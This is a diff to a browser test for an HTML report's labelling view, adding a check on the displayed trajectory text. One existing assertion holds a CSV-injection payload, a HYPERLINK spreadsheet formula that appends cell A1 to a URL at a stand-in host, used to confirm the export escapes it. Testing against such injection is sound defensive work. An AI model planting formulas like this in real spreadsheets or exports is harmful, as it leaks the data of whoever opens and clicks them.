@@ -98,6 +98,10 @@ describe.skipIf(skipReason !== null)('labelling Table 2 in the HTML report (Chro
     const n = parseLabelsCsv(text, sheet).length;
     expect(await page.locator('#label-list li').count()).toBe(n);
     expect(await page.locator('#label-status').textContent()).toBe(`0 of ${n} labelled · trajectory 1 of ${n}`);
+    // The shown trajectory, read from its block's compressed bodies (asynchronously).
+    await expect
+      .poll(() => page.locator('#label-detail pre.label-trajectory').textContent())
+      .toMatch(/^Question: question 0\?\nThought 1: /);
     // A model answer a spreadsheet would run as a formula is text in both the sheet and the page's CSV.
     expect(text).toContain(`"'=HYPERLINK(""http://x.test/?""&A1,""click"")"`);
     expect(await download()).toBe(text);
